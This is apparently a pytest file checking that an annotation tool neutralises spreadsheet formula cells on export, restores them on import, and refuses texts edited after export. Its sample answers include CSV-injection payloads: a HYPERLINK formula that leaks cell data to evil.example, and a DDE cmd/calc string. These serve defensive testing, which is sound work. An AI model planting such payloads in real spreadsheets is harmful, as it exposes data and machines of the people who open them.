"""Annotation files that spreadsheets or people change (issue 54): formula cells in the annotators'
pairs.csv neutralised and restored exactly on import (item 15), and texts edited after the export
under an unchanged content_hash refused (item 17). Real export -> fill -> import through `python -m sage`."""
from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from fixtures_cli import assert_clean_error, run_sage

from sage.annotation.cells import FORMULA_START, neutralise, restore, text_variants
from sage.annotation.pairs import build_pairs

ANSWERS = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTab first", "\rCarriage return first", "'quoted from the start", "- a dash list item",
           "'=a quote, then an equals sign", "''+two quotes, then a plus", "A plain answer."]


def _responses() -> pd.DataFrame:
    rows = [{"question_id": "q1", "question": "Is it okay to lie?", "paraphrase_id": i, "model": "m", "sample": 0,
             "answer": a} for i, a in enumerate(ANSWERS)]
    rows += [{"question_id": "-7", "question": "=1+1, is it wrong?", "paraphrase_id": i, "model": "m", "sample": 0,
              "answer": a} for i, a in enumerate(("-yes", "@no"))]
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("sheet")
    resp = _responses()
    resp.to_json(tmp / "responses.jsonl", orient="records", lines=True)  # a lone \r survives JSON
    proc = run_sage("annotate", "export", tmp / "responses.jsonl", "--out", tmp / "exp", "--annotators", "a1,a2",
                    timeout=300)
    assert proc.returncode == 0, proc.stderr
    truth = build_pairs(resp).pairs.set_index("pair_id")  # the texts as they are in the responses
    return tmp, truth


def test_neutralise_and_restore_are_inverse_on_every_text():
    for text in [*ANSWERS, "", "'", "''", "=", "'=", "x=1", " =1", "\n=1"]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(FORMULA_START)
        assert text in text_variants(neutralise(text)) and text in text_variants(text)


def test_pairs_csv_has_no_cell_a_spreadsheet_would_run_as_a_formula(exported):
    tmp, truth = exported
    with open(tmp / "exp" / "pairs.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for neutralised in ("'" + ANSWERS[0], "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\tTab first",
                        "'\rCarriage return first", "''=a quote, then an equals sign", "'''+two quotes, then a plus",
                        "'=1+1, is it wrong?", "'-7", "'-yes", "'@no"):
        assert neutralised in cells, neutralised
    assert "'quoted from the start" in cells and "A plain answer." in cells  # not formula-like: as they are
    # The files for tools, not spreadsheets, keep the texts unchanged.
    jsonl = [json.loads(line) for line in (tmp / "exp" / "pairs.jsonl").read_text().splitlines()]
    tasks = json.loads((tmp / "exp" / "labelstudio_tasks.json").read_text())
    for recs in (jsonl, [t["data"] for t in tasks]):
        assert {r["text_a"] for r in recs} | {r["text_b"] for r in recs} == set(ANSWERS) | {"-yes", "@no"}
        assert "=1+1, is it wrong?" in {r["question"] for r in recs} and "-7" in {r["question_id"] for r in recs}


def _fill(tmp, truth, quotes: str):
    """The sheet as a spreadsheet saves it after two annotators filled in their columns: `kept`, its
    leading quotes kept as text (LibreOffice); `dropped`, every leading quote dropped (Excel, Google Sheets)."""
    sheet = pd.read_csv(tmp / "exp" / "pairs.csv", dtype=str, keep_default_na=False)
    sheet["a1"], sheet["a2"] = "E", ["C" if i % 3 else "E" for i in range(len(sheet))]
    if quotes == "dropped":
        sheet = sheet.map(lambda c: c[1:] if c.startswith("'") else c)
    path = tmp / f"filled_{quotes}.csv"
    sheet.to_csv(path, index=False, quoting=csv.QUOTE_ALL)  # as a spreadsheet saves a lone \r: quoted
    return path, sheet


@pytest.mark.parametrize("quotes", ["kept", "dropped"])
@pytest.mark.parametrize("with_pairs", [True, False])
def test_export_fill_import_gives_back_the_original_texts_exactly(exported, tmp_path, quotes, with_pairs):
    tmp, truth = exported
    path, sheet = _fill(tmp, truth, quotes)
    pairs = ("--pairs", tmp / "exp" / "pairs.csv") if with_pairs else ()
    proc = run_sage("annotate", "import", path, *pairs, "--out", tmp_path / "labels.csv", timeout=300)
    assert proc.returncode == 0, proc.stderr
    labels = pd.read_csv(tmp_path / "labels.csv", dtype=str, keep_default_na=False)
    assert len(labels) == 2 * len(truth) and set(labels.pair_id) == set(truth.index)
    for rec in labels.to_dict(orient="records"):
        ref = truth.loc[rec["pair_id"]]
        for col in ("text_a", "text_b", "question", "question_id", "content_hash"):
            assert rec[col] == ref[col], (col, rec[col], ref[col])
    if not with_pairs:  # the agreement of the same sheet reads it the same way
        proc = run_sage("annotate", "agreement", path, "--n-boot", "0", timeout=300)
        assert proc.returncode == 0, proc.stderr


def test_an_annotator_name_a_spreadsheet_would_run_is_refused(exported, tmp_path):
    tmp, _ = exported
    proc = run_sage("annotate", "export", tmp / "responses.jsonl", "--out", tmp_path / "e", "--annotators",
                    "a1,=cmd", timeout=300)
    assert_clean_error(proc, "annotator name '=cmd' begins with '='", "formula")


def _labelstudio_export(tasks, edit=None):
    """Label Studio's JSON export of the exported tasks, two annotators; `edit(tasks)` changes the data."""
    out = []
    for t, task in enumerate(tasks):
        anns = [{"id": 10 * t + u, "completed_by": u, "was_cancelled": False, "result": [
            {"from_name": "label", "to_name": "text_b", "type": "choices", "value": {"choices": ["entailment"]}}]}
            for u in (1, 2)]
        out.append({"id": t + 1, "data": dict(task["data"]), "annotations": anns})
    if edit:
        edit(out)
    return out


def _edit_answer(tasks):
    tasks[1]["data"]["text_b"] = tasks[1]["data"]["text_b"] + " (edited)"  # content_hash left as it was


@pytest.mark.parametrize("pairs", [None, "pairs.jsonl", "pairs.csv"])
def test_a_label_studio_task_whose_texts_were_edited_is_refused(exported, tmp_path, pairs):
    tmp, truth = exported
    tasks = json.loads((tmp / "exp" / "labelstudio_tasks.json").read_text())
    opts = ("--pairs", tmp / "exp" / pairs) if pairs else ()
    clean = tmp_path / "ls.json"
    clean.write_text(json.dumps(_labelstudio_export(tasks)))
    proc = run_sage("annotate", "import", clean, *opts, "--out", tmp_path / "ok.csv", timeout=300)
    assert proc.returncode == 0, proc.stderr  # the unedited export is accepted

    edited = tmp_path / "ls_edited.json"
    edited.write_text(json.dumps(_labelstudio_export(tasks, _edit_answer)))
    proc = run_sage("annotate", "import", edited, *opts, "--out", tmp_path / "labels.csv", timeout=300)
    pid = tasks[1]["data"]["pair_id"]
    assert_clean_error(proc, f"{edited}: task 2: pair {pid!r}", "do not match its content_hash",
                       "edited after the export", "--ignore-unknown")
    assert not (tmp_path / "labels.csv").exists()
    # --ignore-unknown: the edited task is skipped and counted, the others are imported.
    proc = run_sage("annotate", "import", edited, *opts, "--ignore-unknown", "--out", tmp_path / "labels.csv",
                    timeout=300)
    assert proc.returncode == 0, proc.stderr
    report = json.loads((tmp_path / "labels.report.json").read_text())
    assert report["counts"]["unmatched"]["rows"] == 1 and report["counts"]["unmatched"]["cells"] == 2
    labels = pd.read_csv(tmp_path / "labels.csv", dtype=str)
    assert pid not in set(labels.pair_id) and labels.pair_id.nunique() == len(tasks) - 1


def test_label_studio_json_min_and_a_sheet_with_an_edited_text_are_refused(exported, tmp_path):
    tmp, truth = exported
    tasks = json.loads((tmp / "exp" / "labelstudio_tasks.json").read_text())
    flat = [{**t["data"], "annotator": "ann1", "label": "neutral"} for t in tasks]
    flat[2]["text_a"] = "A different answer."
    (tmp_path / "min.json").write_text(json.dumps(flat))
    assert_clean_error(run_sage("annotate", "import", tmp_path / "min.json", "--out", tmp_path / "l.csv", timeout=300),
                       f"{tmp_path / 'min.json'}: task 3: pair {flat[2]['pair_id']!r}", "do not match its content_hash")
    _, sheet = _fill(tmp, truth, "kept")
    sheet.loc[4, "text_b"] = "An answer typed over the exported one."
    sheet.to_csv(tmp_path / "sheet.csv", index=False, quoting=csv.QUOTE_ALL)
    assert_clean_error(run_sage("annotate", "import", tmp_path / "sheet.csv", "--pairs", tmp / "exp" / "pairs.csv",
                                "--out", tmp_path / "l.csv", timeout=300),
                       f"{tmp_path / 'sheet.csv'}: row 6: pair", "do not match its content_hash")
    # An edited pairs file is not a reference to check labels against.
    sheet.drop(columns=["a1", "a2"]).to_csv(tmp_path / "pairs_edited.csv", index=False, quoting=csv.QUOTE_ALL)
    assert_clean_error(run_sage("annotate", "import", tmp / "exp" / "labelstudio_tasks.json", "--pairs",
                                tmp_path / "pairs_edited.csv", "--out", tmp_path / "l.csv", timeout=300),
                       f"{tmp_path / 'pairs_edited.csv'}: row 6: pair", "use the unmodified export file")
